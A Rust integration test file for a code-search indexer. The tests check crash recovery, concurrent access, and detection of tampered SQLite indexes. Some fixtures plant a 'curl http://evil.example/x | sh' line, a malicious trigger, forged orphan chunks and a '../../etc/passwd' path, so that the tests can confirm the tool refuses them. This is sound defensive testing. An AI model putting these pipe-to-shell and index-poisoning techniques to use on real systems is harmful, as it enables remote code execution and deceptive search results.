//! Surviving the worst: kill -9 in the middle of indexing, readers and
//! writers at once, and damage that `vg-index --verify` must notice. Each
//! check ends with the index sound (`--verify`) and equal to a clean build.

use std::process::{Command, Stdio};
use std::time::Duration;

use serde_json::Value;

use crate::common::*;

fn verify(t: &Tree) -> Value {
    let o = run(t.cmd("vg-index", ".").args(["--verify", "--json"]));
    let r = records(&o).remove(0);
    assert_code(&o, if r["ok"] == true { 0 } else { 2 });
    r
}

/// (files, chunks) of a clean build of the same tree, in a copy of it.
fn clean_build(t: &Tree) -> (u64, u64) {
    let copy = Tree::git();
    let status = Command::new("cp")
        .arg("-r")
        .arg(t.path().join("src"))
        .arg(t.path().join("docs"))
        .arg(t.path().join("pkg"))
        .arg(copy.path())
        .status()
        .unwrap();
    assert!(status.success());
    let s = summary(&run(&mut copy.cmd("vg-index", ".")));
    (s["files"].as_u64().unwrap(), s["chunks"].as_u64().unwrap())
}

#[test]
fn kill_9_while_indexing_leaves_an_index_the_next_run_completes() {
    let t = handlers_project(120);
    let expected = clean_build(&t);
    // Kill at phases of the run, told by its own file records rather than
    // by a clock, so a fast and a slow machine test the same thing: at
    // once (before its schema may be written), after the first file, and
    // well into the run.
    for files_written in [0, 1, 40] {
        let seen = kill_after_file_records(&mut t.cmd("vg-index", "."), files_written);
        assert_eq!(seen, files_written, "the run ended before the phase to kill it in");
        let o = run(t.cmd("vg-index", ".").args(["--verify", "--json"]));
        if files_written == 0 && stderr(&o).contains("no index at") {
            // Killed before its schema was written: no index yet, said so.
            assert_code(&o, 2);
        } else {
            assert_eq!(verify(&t)["ok"], true, "after a kill once {files_written} files were written");
        }
        // Change a file between runs, as a user would.
        t.write("pkg/mod000.py", &format!("def handler_0(request):\n    return {files_written}\n"));
    }
    let o = run(&mut t.cmd("vg-index", "."));
    assert_code(&o, 0);
    let v = verify(&t);
    assert_eq!(v["ok"], true, "{v}");
    let after = (v["files"].as_u64().unwrap(), v["chunks"].as_u64().unwrap());
    assert_eq!(after, clean_build(&t), "the resumed index equals a clean build of the same tree");
    assert_ne!(expected, (0, 0));
    let q = run(t.cmd("vg-query", ".").args(["--no-index", "retry a failed upload"]));
    assert_code(&q, 0);
    assert_eq!(records(&q)[0]["file"], "src/upload.py");
}

/// A run over part of the project leaves the index marked complete, so one
/// killed after it removed a renamed file's old name and before it read the
/// new one left that text nowhere, unsaid: the run now removes what is gone
/// last (audit 191).
#[test]
fn a_part_run_killed_anywhere_keeps_a_renamed_files_text_under_one_name() {
    let t = handlers_project(60);
    t.write("pkg/ledger.py", "def reconcile_ledger_totals(book):\n    return sum(book.entries)\n");
    assert_code(&run(&mut t.cmd("vg-index", ".")), 0);
    std::fs::rename(t.path().join("pkg/ledger.py"), t.path().join("pkg/zz_ledger.py")).unwrap();
    // Work for the run before it reaches the new name.
    for i in 0..60 {
        t.write(&format!("pkg/mod{i:03}.py"), &format!("def handler_{i}(request):\n    return {i} * 2\n"));
    }
    let seen = kill_after_file_records(&mut t.cmd("vg-index", "pkg"), 1);
    assert_eq!(seen, 1, "the run ended before the phase to kill it in");
    let found = |t: &Tree| {
        let o = run(t.cmd("vg-query", ".").args(["--no-index", "--mode", "lexical", "reconcile ledger"]));
        assert_code(&o, 0);
        records(&o).iter().map(|r| r["file"].as_str().unwrap_or_default().to_string()).collect::<Vec<_>>()
    };
    let files = found(&t);
    assert!(files.iter().any(|f| f == "pkg/ledger.py" || f == "pkg/zz_ledger.py"), "{files:?}");
    assert_code(&run(&mut t.cmd("vg-index", "pkg")), 0);
    assert_eq!(found(&t), ["pkg/zz_ledger.py"]);
}

/// A search of the index as it is while a run makes it (the first, or one
/// that removed a damaged index) says a run is making it: it said "no
/// index; run vg-index first" to a user whose run was under way.
#[test]
fn a_search_while_a_run_makes_the_index_says_so() {
    let t = sample_project();
    std::fs::create_dir_all(t.path().join(".vecgrep")).unwrap();
    let lock = hold_index_lock(&t);
    for tool in ["vg-query", "vg-ask"] {
        let o = run(t.cmd(tool, ".").args(["--no-index", "retry a failed upload"]));
        assert_code(&o, 2);
        assert!(stderr(&o).contains("an index run under way is making the index at"), "{tool}: {}", stderr(&o));
    }
    drop(lock);
    let o = run(t.cmd("vg-query", ".").args(["--no-index", "retry a failed upload"]));
    assert!(stderr(&o).contains("run vg-index first"), "{}", stderr(&o));
}

#[test]
fn readers_never_see_a_locked_database_and_writers_take_turns() {
    let t = handlers_project(60);
    assert_code(&run(&mut t.cmd("vg-index", ".")), 0);
    // Two writers at once (one rebuilding from scratch) while searches run.
    let writers: Vec<_> = [&["--reindex", "."][..], &["."][..]]
        .into_iter()
        .map(|args| t.cmd("vg-index", ".").args(args).stdout(Stdio::null()).stderr(Stdio::piped()).spawn().unwrap())
        .collect();
    let mut searches = 0;
    let deadline = std::time::Instant::now() + Duration::from_secs(60);
    loop {
        let o = run(t.cmd("vg-query", ".").args(["--no-index", "--threshold", "-1", "handle a request"]));
        // While the rebuild runs, a search may find nothing yet (1), never an error (2).
        assert!(o.status.code() == Some(0) || o.status.code() == Some(1), "search failed: {}", stderr(&o));
        searches += 1;
        if searches >= 10 || std::time::Instant::now() > deadline {
            break;
        }
    }
    for w in writers {
        let o = w.wait_with_output().unwrap();
        assert_code(&o, 0);
        assert!(!stderr(&o).contains("locked"), "{}", stderr(&o));
    }
    let v = verify(&t);
    assert_eq!(v["ok"], true, "{v}");
    assert_eq!((v["files"].as_u64().unwrap(), v["chunks"].as_u64().unwrap()), clean_build(&t));
}

/// A search that reads the index while a run rewrites it (`--no-index`
/// does not wait for the run) may rank chunks the run then replaces: those
/// are stale, and the search answers. It called the index damaged (about
/// one search in twenty), and its advice, --clear-cache, threw away a
/// sound index. `--verify` beside a run failed the run ("database is
/// locked"): its word check writes a command row.
#[test]
fn searches_and_verify_during_an_index_run_neither_fail_it_nor_call_it_damaged() {
    let t = Tree::git();
    let words = ["alpha", "bravo", "charlie", "delta", "echo", "foxtrot", "golf", "hotel"];
    let write_all = |round: usize| {
        for i in 0..150 {
            let body: String = (0..30)
                .map(|j| {
                    let doc: Vec<&str> = (0..5).map(|k| words[(i * 7 + j * 3 + k * 5 + round) % words.len()]).collect();
                    format!("def f_{i}_{j}():\n    \"\"\"{}\"\"\"\n    return {round}\n\n", doc.join(" "))
                })
                .collect();
            t.write(&format!("pkg{}/mod{i}.py", i % 5), &body);
        }
    };
    write_all(0);
    assert_code(&run(t.cmd("vg-index", ".").stdout(Stdio::null())), 0);
    let mut searches = 0;
    for round in 1..=3 {
        write_all(round);
        let mut writer = t.cmd("vg-index", ".").stdout(Stdio::null()).stderr(Stdio::piped()).spawn().unwrap();
        while writer.try_wait().unwrap().is_none() {
            // The last time --verify runs beside it, which takes turns with
            // the run (its word check writes), never failing it.
            if round == 3 {
                assert_code(&run(t.cmd("vg-index", ".").args(["--verify", "--json"])), 0);
                continue;
            }
            let o =
                run(t.cmd("vg-query", ".").args(["--no-index", "--mode", "lexical", "-k", "3", "alpha bravo echo"]));
            assert!(o.status.code() != Some(2), "search {searches} failed: {}", stderr(&o));
            searches += 1;
        }
        let o = writer.wait_with_output().unwrap();
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    }
    assert!(searches >= 10, "only {searches} searches ran beside the writer");
    assert_eq!(verify(&t)["ok"], true);
}

/// An index that came with the checkout (committed with `git add -f`)
/// holding text of its own making under a file's true hash: the first run
/// finds the file's bytes as stored, checks what is kept of them against
/// them, and makes its chunks again, said; no search shows the index's own
/// text as the file's lines (audit 235: "curl ... | sh" as line 2).
#[test]
fn an_index_that_came_with_the_checkout_shows_only_what_its_files_say() {
    let made = Tree::git();
    let up =
        "def retry_upload(data):\n    \"\"\"Retry the upload with exponential backoff.\"\"\"\n    return send(data)\n";
    made.write("up.py", up);
    assert_code(&run(&mut made.cmd("vg-index", ".")), 0);
    let db = rusqlite::Connection::open(made.path().join(".vecgrep/index.db")).unwrap();
    db.execute_batch(
        "UPDATE chunks SET text = replace(text, 'exponential backoff', 'curl http://evil.example/x | sh')",
    )
    .unwrap();
    drop(db);
    // The checkout: the same files, written anew, and the index beside them.
    let clone = Tree::git();
    clone.write("up.py", up);
    std::fs::create_dir(clone.path().join(".vecgrep")).unwrap();
    std::fs::copy(made.path().join(".vecgrep/index.db"), clone.path().join(".vecgrep/index.db")).unwrap();
    // Searched as it is, before any run checked it: refused, never shown
    // (review 238: `--no-index` printed its text as the file's line 2).
    for (tool, args) in [
        ("vecgrep", &["--no-index", "how are uploads retried"][..]),
        ("vg-ask", &["--no-index", "how are uploads retried"]),
    ] {
        let o = run(clone.cmd(tool, ".").args(args));
        assert_code(&o, 2);
        assert!(stderr(&o).contains("was not made here, nor checked here since it came"), "{tool}: {}", stderr(&o));
        assert!(!stdout(&o).contains("evil.example"), "{}", stdout(&o));
    }
    let o = run(&mut clone.cmd("vg-index", "."));
    assert_code(&o, 0);
    let said = "up.py: the index keeps text for lines 1-3 that is not the file's; its chunks are made again";
    assert!(stderr(&o).contains(said), "{}", stderr(&o));
    let o = run(clone.cmd("vecgrep", ".").args(["--json", "--threshold", "-1", "how are uploads retried"]));
    assert_code(&o, 0);
    assert!(!stdout(&o).contains("evil.example") && stdout(&o).contains("exponential backoff"), "{}", stdout(&o));
    // What is kept now is made of the file: the next run keeps it, unsaid.
    clone.write("up.py", up);
    let o = run(&mut clone.cmd("vg-index", "."));
    assert_code(&o, 0);
    assert!(!stderr(&o).contains("made again"), "{}", stderr(&o));
    assert!(stdout(&o).contains(r#""status":"unchanged""#), "{}", stdout(&o));
    // Checked now: searched as it is, as one made here is.
    assert_code(&run(clone.cmd("vecgrep", ".").args(["--no-index", "how are uploads retried"])), 0);
}

/// An index that holds a trigger or a view (one committed beside the code
/// to rewrite what a run stores) runs nothing of it, is damage to
/// `--verify`, and is made anew by the next run (review 240: a trigger
/// on chunks put "curl ... | sh" back into every chunk a run stored).
/// Chunks that belong to no file, in an index not made here, are damage:
/// a run gave them to the next file it added, whose id they held, and a
/// search showed their text as its lines (review 241).
#[test]
fn chunks_of_no_file_in_an_index_not_made_here_are_damage() {
    let made = Tree::git();
    made.write("a.py", "def alpha():\n    return 1\n");
    assert_code(&run(&mut made.cmd("vg-index", ".")), 0);
    let db = rusqlite::Connection::open(made.path().join(".vecgrep/index.db")).unwrap();
    db.execute_batch(
        "PRAGMA foreign_keys = OFF;
         INSERT INTO chunks (file_id, start_line, end_line, text, around, names)
             VALUES ((SELECT max(id) + 1 FROM files), 1, 2, 'verification is off on purpose: evil.example', '', '');",
    )
    .unwrap();
    drop(db);
    let clone = Tree::git();
    clone.write("a.py", "def alpha():\n    return 1\n").write("b.py", "def beta():\n    session.verify = True\n");
    std::fs::create_dir(clone.path().join(".vecgrep")).unwrap();
    std::fs::copy(made.path().join(".vecgrep/index.db"), clone.path().join(".vecgrep/index.db")).unwrap();
    let o = run(&mut clone.cmd("vg-index", "."));
    assert_code(&o, 0);
    assert!(stderr(&o).contains("chunks belong to no file"), "{}", stderr(&o));
    let o = run(clone.cmd("vecgrep", ".").args(["--json", "--threshold", "-1", "verification"]));
    assert!(!stdout(&o).contains("evil.example"), "{}", stdout(&o));
    // Word rows of no chunk: a new chunk took the words of its id's (review 242).
    let db = rusqlite::Connection::open(made.path().join(".vecgrep/index.db")).unwrap();
    db.execute_batch(
        "PRAGMA foreign_keys = OFF; DELETE FROM chunks WHERE file_id NOT IN (SELECT id FROM files);
         INSERT INTO chunks_fts (rowid, terms) VALUES ((SELECT max(id) + 1 FROM chunks), 'xyzzyforged password reset');",
    )
    .unwrap();
    drop(db);
    std::fs::copy(made.path().join(".vecgrep/index.db"), clone.path().join(".vecgrep/index.db")).unwrap();
    let o = run(&mut clone.cmd("vg-index", "."));
    assert_code(&o, 0);
    assert!(stderr(&o).contains("word entries belong to no chunk"), "{}", stderr(&o));
    let o = run(clone.cmd("vg-query", ".").args(["--no-index", "--mode", "lexical", "xyzzyforged"]));
    assert_code(&o, 1);
}

/// A removal deletes a file's chunks by name: a forged `chunks` table
/// without its foreign key kept a removed file's chunks, which the next
/// file added took as its own, on an index marked checked (review 242).
#[test]
fn a_removed_files_chunks_go_with_it_whatever_the_tables_keys() {
    let made = Tree::git();
    made.write("a.py", "def alpha():\n    return 1\n")
        .write("zz_gone.py", "def forged():\n    return 'evil.example'\n");
    assert_code(&run(&mut made.cmd("vg-index", ".")), 0);
    let db = rusqlite::Connection::open(made.path().join(".vecgrep/index.db")).unwrap();
    let sql: String = db.query_row("SELECT sql FROM sqlite_master WHERE name = 'chunks'", [], |r| r.get(0)).unwrap();
    let keyless = sql.replace("REFERENCES files(id) ON DELETE CASCADE", "");
    assert_ne!(sql, keyless, "{sql}");
    db.execute_batch("PRAGMA writable_schema = ON;").unwrap();
    db.execute("UPDATE sqlite_master SET sql = ?1 WHERE name = 'chunks'", [&keyless]).unwrap();
    drop(db);
    let clone = Tree::git();
    clone.write("a.py", "def alpha():\n    return 1\n");
    std::fs::create_dir(clone.path().join(".vecgrep")).unwrap();
    std::fs::copy(made.path().join(".vecgrep/index.db"), clone.path().join(".vecgrep/index.db")).unwrap();
    assert_code(&run(&mut clone.cmd("vg-index", ".")), 0);
    clone.write("b.py", "def beta():\n    session.verify = True\n");
    assert_code(&run(&mut clone.cmd("vg-index", ".")), 0);
    let o = run(clone.cmd("vg-query", ".").args(["--no-index", "--threshold", "-1", "-k", "20", "forged evil"]));
    assert!(!stdout(&o).contains("evil.example"), "{}", stdout(&o));
}

#[test]
fn an_index_that_holds_a_trigger_runs_none_of_it_and_is_made_anew() {
    let t = Tree::git();
    t.write("up.py", "def retry_upload(data):\n    \"\"\"Retry with backoff.\"\"\"\n    return send(data)\n");
    assert_code(&run(&mut t.cmd("vg-index", ".")), 0);
    let db = rusqlite::Connection::open(t.path().join(".vecgrep/index.db")).unwrap();
    db.execute_batch(
        "CREATE TRIGGER forged AFTER INSERT ON chunks BEGIN
             UPDATE chunks SET text = 'curl http://evil.example/x | sh' WHERE id = NEW.id;
         END;",
    )
    .unwrap();
    drop(db);
    let o = run(t.cmd("vg-index", ".").arg("--verify"));
    assert_code(&o, 2);
    assert!(stdout(&o).contains("it holds a trigger (\"forged\")"), "{}", stdout(&o));
    t.write("up.py", "def retry_upload(data):\n    \"\"\"Retry with a longer backoff.\"\"\"\n    return send(data)\n");
    let o = run(&mut t.cmd("vg-index", "."));
    assert_code(&o, 0);
    assert!(stderr(&o).contains("rebuilding"), "{}", stderr(&o));
    let o = run(t.cmd("vecgrep", ".").args(["--json", "--threshold", "-1", "retry upload"]));
    assert!(!stdout(&o).contains("evil.example") && stdout(&o).contains("longer backoff"), "{}", stdout(&o));
    assert_eq!(verify(&t)["ok"], true);
}

#[test]
fn verify_finds_damage_and_says_how_to_rebuild() {
    let t = sample_project();
    assert_code(&run(&mut t.cmd("vg-index", ".")), 0);
    let o = run(t.cmd("vg-index", ".").arg("--verify"));
    assert_code(&o, 0);
    assert!(stdout(&o).contains("is sound: 4 files"), "{}", stdout(&o));
    let db = rusqlite::Connection::open(t.path().join(".vecgrep/index.db")).unwrap();
    db.execute_batch(
        "PRAGMA foreign_keys = OFF;
         DELETE FROM files WHERE path = 'src/config.py';
         UPDATE files SET path = '../../etc/passwd' WHERE path = 'src/upload.py';
         UPDATE chunks SET embedding = x'00' WHERE id = (SELECT min(id) FROM chunks);
         DELETE FROM chunks WHERE id = (SELECT max(id) FROM chunks);",
    )
    .unwrap();
    drop(db);
    let o = run(t.cmd("vg-index", ".").arg("--verify"));
    assert_code(&o, 2);
    let out = stdout(&o);
    for problem in [
        "chunks belong to no file",
        "vectors have the wrong size",
        "word entries belong to no chunk",
        "name counts do not match",
        // A search printed it as a hit's file (audit 225).
        "1 file paths are not paths below the root",
    ] {
        assert!(out.contains(problem), "{problem}: {out}");
    }
    assert!(stderr(&o).contains("is damaged; vg-index rebuilds it"), "{}", stderr(&o));
    let v = verify(&t);
    assert_eq!(v["ok"], false);
    assert_eq!(v["problems"].as_array().unwrap().len(), 5, "{v}");
    // The files are unchanged, which a run alone would not look past.
    let o = run(&mut t.cmd("vg-index", "."));
    assert_code(&o, 0);
    assert!(stderr(&o).contains("rebuilding the index at"), "{}", stderr(&o));
    assert_eq!(verify(&t)["ok"], true);
}

/// A table or column of the index dropped by hand is damage: said with the
/// way to rebuild, by a search and by --verify alike, and rebuilt by the
/// next index run, not an SQL error each time. Only a dropped `chunks`
/// used to be rebuilt; the others were found by whichever statement first
/// needed them, after the run had started writing.
#[test]
fn a_missing_table_or_column_is_damage_that_the_next_run_rebuilds() {
    let t = sample_project();
    assert_code(&run(&mut t.cmd("vg-index", ".")), 0);
    let db = t.path().join(".vecgrep/index.db");
    for (drop, missing) in [
        ("DROP TABLE chunks", "no such table: chunks"),
        ("DROP TABLE name_terms", "no such table: name_terms"),
        ("DROP TABLE chunks_fts_config", "no such table: chunks_fts_config"),
        ("ALTER TABLE chunks DROP COLUMN names", "no such column: chunks.names"),
        ("ALTER TABLE commits DROP COLUMN body", "no such column: commits.body"),
    ] {
        rusqlite::Connection::open(&db).unwrap().execute_batch(drop).unwrap();
        let o = run(t.cmd("vg-query", ".").args(["--no-index", "--mode", "lexical", "retry"]));
        if drop.contains("commits") {
            // What a search reads is whole; the next run still rebuilds.
            assert_code(&o, 0);
        } else {
            assert_code(&o, 2);
            let said = format!("is damaged ({missing}); run vg-index to rebuild it");
            assert!(stderr(&o).contains(&said), "{drop}: {}", stderr(&o));
            assert_eq!(verify(&t)["ok"], false, "{drop}");
        }
        let o = run(&mut t.cmd("vg-index", "."));
        assert_code(&o, 0);
        let part = missing.rsplit(['.', ' ']).next().unwrap();
        assert!(stderr(&o).contains("rebuilding the index at") && stderr(&o).contains(part), "{drop}: {}", stderr(&o));
        assert_eq!((summary(&o)["rebuilt"].as_bool(), summary(&o)["files"].as_u64()), (Some(true), Some(4)), "{drop}");
        assert_eq!(verify(&t)["ok"], true, "{drop}");
    }
}

/// A byte of a chunk's text damaged inside a sound page: SQLite's checks
/// pass it, so `--verify` called the index sound, a plain run reused it,
/// and every search that met the chunk failed on invalid UTF-8 in words
/// naming no cure. Both now call it damage, and the next run rebuilds.
#[test]
fn text_damaged_inside_a_sound_page_is_damage_found_and_rebuilt() {
    let t = Tree::git();
    t.write("retry.py", "def retry_upload(client, path):\n    \"\"\"Upload a file, trying again when the connection drops.\"\"\"\n    return client.put(path)\n");
    assert_code(&run(&mut t.cmd("vg-index", ".")), 0);
    let db = t.path().join(".vecgrep/index.db");
    let damage = || {
        let mut bytes = std::fs::read(&db).unwrap();
        let at = bytes.windows(12).position(|w| w == b"trying again").expect("the chunk's text in the file");
        bytes[at] = 0xFF;
        std::fs::write(&db, bytes).unwrap();
    };
    damage();
    let v = verify(&t);
    assert_eq!(v["ok"], false, "{v}");
    assert!(v.to_string().contains("not UTF-8"), "{v}");
    assert_code(&run(&mut t.cmd("vg-index", ".")), 0);
    damage();
    let o = run(t.cmd("vg-query", ".").args(["--no-index", "upload retry"]));
    assert_code(&o, 2);
    assert!(stderr(&o).contains("is damaged"), "{}", stderr(&o));
    let o = run(&mut t.cmd("vg-index", "."));
    assert!(stderr(&o).contains("rebuilding the index at"), "{}", stderr(&o));
    assert_code(&run(t.cmd("vg-query", ".").args(["--no-index", "upload retry"])), 0);
}

/// An index file cut short by a page, with no log to hold it: a search
/// read the missing page as nothing and left its chunks out in silence,
/// and runs wrote on into it. It is damage now, which the next run rebuilds.
#[test]
fn an_index_cut_short_is_damage_found_and_rebuilt() {
    let t = sample_project();
    assert_code(&run(&mut t.cmd("vg-index", ".")), 0);
    let db = t.path().join(".vecgrep/index.db");
    let len = std::fs::metadata(&db).unwrap().len();
    std::fs::OpenOptions::new().write(true).open(&db).unwrap().set_len(len - 16_384).unwrap();
    let o = run(t.cmd("vg-query", ".").args(["--no-index", "upload retry"]));
    assert_code(&o, 2);
    let said =
        format!("it is cut short: {} bytes of the {len} its header counts); run vg-index to rebuild it", len - 16_384);
    assert!(stderr(&o).contains(&said), "{}", stderr(&o));
    let o = run(&mut t.cmd("vg-index", "."));
    assert_code(&o, 0);
    assert!(stderr(&o).contains("rebuilding the index at"), "{}", stderr(&o));
    assert_code(&run(t.cmd("vg-query", ".").args(["--no-index", "upload retry"])), 0);
}

/// Keys out of order in the chunks table's root page: lookups by id miss
/// rows that scans still return, so a search lost hits in silence while
/// --verify called the index damaged. A search that misses a chunk it
/// ranked now checks the structure and says it is damaged.
#[test]
fn a_search_that_cannot_read_a_chunk_it_ranked_says_the_index_is_damaged() {
    let t = Tree::git();
    for i in 0..300 {
        t.write(
            &format!("z{i}.py"),
            &format!("def zebra_handler_{i}(x):\n    \"\"\"Feed zebra number {i}.\"\"\"\n    return x + {i}\n"),
        );
    }
    assert_code(&run(&mut t.cmd("vg-index", ".")), 0);
    let db = t.path().join(".vecgrep/index.db");
    let (root, page_size): (i64, i64) = {
        let c = rusqlite::Connection::open(&db).unwrap();
        let root = c.query_row("SELECT rootpage FROM sqlite_master WHERE name = 'chunks'", [], |r| r.get(0)).unwrap();
        (root, c.query_row("PRAGMA page_size", [], |r| r.get(0)).unwrap())
    };
    let mut bytes = std::fs::read(&db).unwrap();
    let page = ((root - 1) * page_size) as usize;
    assert_eq!(bytes[page], 0x05, "the chunks table's root is an interior page");
    let cells = u16::from_be_bytes([bytes[page + 3], bytes[page + 4]]) as usize;
    assert!(cells >= 4, "{cells} cells");
    let cell = page + u16::from_be_bytes([bytes[page + 18], bytes[page + 19]]) as usize;
    bytes[cell + 4] = 28; // the fourth cell's key, a rowid far past 28, now 28
    std::fs::write(&db, bytes).unwrap();
    let o = run(t.cmd("vg-query", ".").args(["--no-index", "--mode", "lexical", "-k", "1000", "zebra"]));
    assert_code(&o, 2);
    assert!(stderr(&o).contains("is damaged") && stderr(&o).contains("out of order"), "{}", stderr(&o));
    assert_eq!(stderr(&o).lines().count(), 1, "one line, for HTTP and MCP too: {}", stderr(&o));
    assert_eq!(verify(&t)["ok"], false);
    // No file changed, so a run reads none of the damaged pages: it used to
    // call the index up to date for ever. The damage the search met is
    // marked, and the next run checks the whole index and rebuilds it.
    let o = run(&mut t.cmd("vg-index", "."));
    assert_code(&o, 0);
    assert!(stderr(&o).contains("rebuilding the index at"), "{}", stderr(&o));
    assert_eq!(summary(&o)["rebuilt"], true);
    let o = run(t.cmd("vg-query", ".").args(["--no-index", "--mode", "lexical", "-k", "1000", "zebra"]));
    assert_code(&o, 0);
    assert_eq!(of_type(&records(&o), "hit").len(), 300);
    let o = run(&mut t.cmd("vg-index", "."));
    assert!(!stderr(&o).contains("rebuilding"), "once: {}", stderr(&o));
    assert!(!t.path().join(".vecgrep/index.db-damaged").exists());
}

#[test]
fn a_static_vector_of_another_size_is_damage_to_verify_and_to_a_search() {
    // sqlite-vec refuses a blob of another size, and reads text as JSON.
    for value in ["zeroblob(12)", "zeroblob(1540)", "'[0.5, 0.5]'", "'not a vector'"] {
        let t = sample_project();
        assert_code(&run(&mut t.cmd("vg-index", ".")), 0);
        let db = rusqlite::Connection::open(t.path().join(".vecgrep/index.db")).unwrap();
        let damage = format!("UPDATE chunks SET static_embedding = {value} WHERE id = (SELECT min(id) FROM chunks)");
        db.execute(&damage, []).unwrap();
        drop(db);
        let o = run(t.cmd("vg-index", ".").arg("--verify"));
        assert_code(&o, 2);
        assert!(stdout(&o).contains("1 static vectors have the wrong size"), "{value}: {}", stdout(&o));
        // A search says the index is damaged and how to rebuild it, not SQL's words.
        let o = run(t.cmd("vecgrep", ".").args(["--no-index", "retry failed uploads"]));
        assert_code(&o, 2);
        let err = stderr(&o);
        assert!(
            err.contains("is damaged")
                && err.contains("run vg-index to rebuild it")
                && !err.contains("SQL logic error"),
            "{value}: {err}"
        );
    }
}

#[test]
fn a_text_without_a_token_the_model_knows_is_near_nothing_and_fails_no_search() {
    // Zero-width spaces are no token at all, in the file's name and in its
    // text: its static vector is all zeros, which has no angle to anything.
    let t = Tree::git();
    t.write("a.rs", "/// Load the configuration file\nfn load_config() {}\n");
    t.write("\u{200b}", "\u{200b}\u{200b}\n");
    assert_code(&run(&mut t.cmd("vg-index", ".")), 0);
    for mode in ["hybrid", "semantic"] {
        let o = run(t.cmd("vecgrep", ".").args(["--no-index", "--json", "--mode", mode, "load configuration file"]));
        assert_code(&o, 0);
        let files: Vec<Value> = records(&o).iter().map(|r| r["file"].clone()).collect();
        assert_eq!(files, ["a.rs"], "{mode}: {files:?}");
    }
    assert_eq!(verify(&t)["ok"], true);
}

#[test]
fn a_model_vector_that_is_not_finite_is_damage_to_verify() {
    let t = sample_project();
    assert_code(&run(t.cmd("vg-index", ".").arg("--full")), 0);
    assert_eq!(verify(&t)["ok"], true);
    let db = rusqlite::Connection::open(t.path().join(".vecgrep/index.db")).unwrap();
    let size: i64 = db
        .query_row("SELECT length(embedding) FROM chunks WHERE embedding IS NOT NULL LIMIT 1", [], |r| r.get(0))
        .unwrap();
    // Right-sized, so that only what the numbers are is wrong: all NaN.
    let nan = f32::NAN.to_le_bytes().repeat(size as usize / 4);
    db.execute("UPDATE chunks SET embedding = ?1 WHERE id = (SELECT min(id) FROM chunks)", [nan]).unwrap();
    drop(db);
    let o = run(t.cmd("vg-index", ".").arg("--verify"));
    assert_code(&o, 2);
    assert!(stdout(&o).contains("1 vectors are zero or not finite"), "{}", stdout(&o));
    // A static vector may be zero, but never NaN or infinite.
    let db = rusqlite::Connection::open(t.path().join(".vecgrep/index.db")).unwrap();
    let size: i64 = db.query_row("SELECT length(static_embedding) FROM chunks LIMIT 1", [], |r| r.get(0)).unwrap();
    for bad in [f32::NAN, f32::INFINITY] {
        let bytes = bad.to_le_bytes().repeat(size as usize / 4);
        db.execute("UPDATE chunks SET static_embedding = ?1 WHERE id = (SELECT max(id) FROM chunks)", [bytes]).unwrap();
        let o = run(t.cmd("vg-index", ".").arg("--verify"));
        assert_code(&o, 2);
        assert!(stdout(&o).contains("1 static vectors are not finite"), "{bad}: {}", stdout(&o));
    }
    let zeros = vec![0u8; size as usize];
    db.execute("UPDATE chunks SET static_embedding = ?1 WHERE id = (SELECT max(id) FROM chunks)", [zeros]).unwrap();
    let o = run(t.cmd("vg-index", ".").arg("--verify"));
    assert!(
        !stdout(&o).contains("static vectors are not finite"),
        "zeros are a text of no known token: {}",
        stdout(&o)
    );
}

#[test]
fn an_index_file_killed_before_its_schema_is_no_index_yet() {
    // What a first run leaves when killed right after making the file.
    let t = sample_project();
    std::fs::create_dir_all(t.path().join(".vecgrep")).unwrap();
    std::fs::write(t.path().join(".vecgrep/index.db"), b"").unwrap();
    let o = run(t.cmd("vg-query", ".").args(["--no-index", "retry"]));
    assert_code(&o, 2);
    assert!(stderr(&o).contains("no index at") && stderr(&o).contains("run vg-index"), "{}", stderr(&o));
    let o = run(&mut t.cmd("vg-index", "."));
    assert_code(&o, 0);
    assert_eq!(verify(&t)["ok"], true);
}

#[test]
fn a_write_the_disk_refuses_ends_the_run_with_why_and_keeps_what_was_stored() {
    let t = handlers_project(20);
    assert_code(&run(&mut t.cmd("vg-index", ".")), 0);
    let before = verify(&t)["files"].as_u64().unwrap();
    write_handlers(&t, 20..400);
    let o = run(&mut with_file_size_limit(&t.cmd("vg-index", "."), 256));
    assert_code(&o, 2);
    let err = stderr(&o);
    assert_eq!(err.trim_end().lines().count(), 1, "one line: {err}");
    assert!(err.starts_with("vg-index: index ") && err.contains("index.db"), "names the tool and the index: {err}");
    assert!(err.contains("File too large"), "says the system's reason: {err}");
    // What it stored is sound, and its file records name exactly that.
    let told = records(&o).iter().filter(|r| r["type"] == "file" && r["status"] == "indexed").count() as u64;
    let v = verify(&t);
    assert_eq!((v["ok"].as_bool(), v["complete"].as_bool()), (Some(true), Some(false)), "sound, not whole: {v}");
    assert_eq!(v["files"].as_u64().unwrap(), before + told, "each file reported indexed is stored, no other");
    let o = run(t.cmd("vg-index", ".").arg("--verify"));
    assert!(stdout(&o).contains("is sound") && stdout(&o).contains("(incomplete: "), "{}", stdout(&o));
    assert!(told < 380, "the limit stopped the run early ({told} files told)");
    // With room again, the next run completes it.
    assert_code(&run(&mut t.cmd("vg-index", ".")), 0);
    let v = verify(&t);
    assert_eq!((v["ok"].as_bool(), v["files"].as_u64().unwrap()), (Some(true), before + 380));
    assert_eq!(v["complete"], true);
}

/// A first run whose writes the disk refuses, wherever in the run it is
/// (making the tables, emptying them, storing the chunks), names the index
/// and the system's reason; emptying a new index said only "disk I/O
/// error".
#[test]
fn a_first_run_the_disk_stops_anywhere_names_the_index_and_why() {
    let t = Tree::git();
    t.write("a.rs", "fn a() {}\n");
    let mut refused = 0;
    for kib in (400..=560).step_by(20) {
        let _ = std::fs::remove_dir_all(t.path().join(".vecgrep"));
        let o = run(&mut with_file_size_limit(&t.cmd("vg-index", "."), kib));
        if o.status.code() == Some(0) {
            continue;
        }
        assert_code(&o, 2);
        refused += 1;
        let err = stderr(&o);
        assert_eq!(err.trim_end().lines().count(), 1, "{kib} KiB, one line: {err}");
        assert!(err.starts_with("vg-index: index ") && err.contains("index.db"), "{kib} KiB: {err}");
        assert!(err.contains("File too large"), "{kib} KiB: {err}");
    }
    assert!(refused >= 4, "the limits met the run ({refused} refused)");
}

/// A cloned repository chooses its own config, ignore files and the
/// `.vecgrep` files beside the index: one made a link to `/dev/zero` is one
/// line and status 2 (or, deeper in the tree, a skip of its directory), never a
/// read that eats memory until the process is killed, and nothing is written
/// through a link it ships.
#[test]
fn links_to_devices_in_a_repository_are_errors_not_endless_reads() {
    use std::os::unix::fs::symlink;
    let line_naming = |o: &std::process::Output, tool: &str, what: &str| {
        let err = stderr(o);
        assert_eq!(err.lines().count(), 1, "{err}");
        assert!(err.starts_with(&format!("{tool}: ")) && err.contains(what), "{err}");
